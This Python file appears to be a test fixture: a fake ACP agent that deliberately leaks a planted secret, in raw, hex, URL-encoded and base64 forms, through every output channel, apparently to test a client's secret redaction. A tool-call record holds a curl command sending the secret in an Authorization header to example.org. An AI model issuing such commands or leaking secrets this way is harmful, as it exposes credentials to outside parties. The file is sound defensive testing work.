"""An agent that gives away the value of $PLANTED in every way it has: an ACP program of the standard library alone."""

import base64
import json
import os
import sys
import urllib.parse

PLANTED = os.environ["PLANTED"]
FORMS = (
    PLANTED,
    json.dumps(PLANTED),
    urllib.parse.quote(PLANTED, safe=""),
    PLANTED.encode().hex(),
    *(base64.b64encode(b"x" * shift + PLANTED.encode()).decode() for shift in range(3)),
    base64.encodebytes(b"x" * 30 + PLANTED.encode()).decode(),
)


def send(message: dict[str, object]) -> None:
    sys.stdout.write(json.dumps({"jsonrpc": "2.0", **message}) + "\n")
    sys.stdout.flush()


def update(**told: object) -> None:
    send({"method": "session/update", "params": {"sessionId": "s1", "update": told}})


def chunk(text: str, kind: str = "agent_message_chunk") -> None:
    update(sessionUpdate=kind, content={"type": "text", "text": text})


def give_away() -> None:
    text = " and ".join(FORMS)
    for kind in ("agent_thought_chunk", "agent_message_chunk"):
        for at in range(0, len(text), 5):
            chunk(text[at : at + 5], kind)
    update(
        sessionUpdate="tool_call",
        toolCallId="t1",
        title=f"echo {PLANTED}",
        kind="execute",
        status="completed",
        rawInput={"command": f"curl -H 'Authorization: {PLANTED}' https://example.org/{FORMS[2]}"},
        rawOutput={"stdout": text},
        content=[
            {"type": "content", "content": {"type": "text", "text": text}},
            {"type": "diff", "path": os.path.abspath("leak.txt"), "oldText": None, "newText": text},
        ],
    )
    update(sessionUpdate="plan", entries=[{"content": text, "status": "pending", "priority": "low"}])
    sys.stderr.write(text + "\n")
    sys.stderr.flush()
    with open("leak.txt", "w", encoding="utf-8") as file:
        file.write("\n".join(FORMS) + "\n")
    send(
        {
            "id": 7,
            "method": "session/request_permission",
            "params": {
                "sessionId": "s1",
                "toolCall": {"toolCallId": "t2", "title": f"Run {PLANTED}", "kind": "execute", "rawInput": {"command": text}},
                "options": [{"optionId": "yes", "name": f"Allow {PLANTED}", "kind": "allow_once"}],
            },
        }
    )  # fmt: skip


def main() -> None:
    prompt = None
    for line in sys.stdin:
        message = json.loads(line)
        match message.get("method"):
            case "initialize":
                version = {"name": "indiscreet", "version": "1"}
                send({"id": message["id"], "result": {"protocolVersion": 1, "agentInfo": version}})
            case "session/new":
                send({"id": message["id"], "result": {"sessionId": "s1"}})
            case "session/prompt":
                prompt = message["id"]
                give_away()
            case None if message.get("id") == 7:
                chunk(f"The end: {FORMS[4]}")
                send({"id": prompt, "result": {"stopReason": "end_turn"}})
            case _:
                if "id" in message:
                    send({"id": message["id"], "error": {"code": -32601, "message": "no such method"}})


if __name__ == "__main__":
    main()
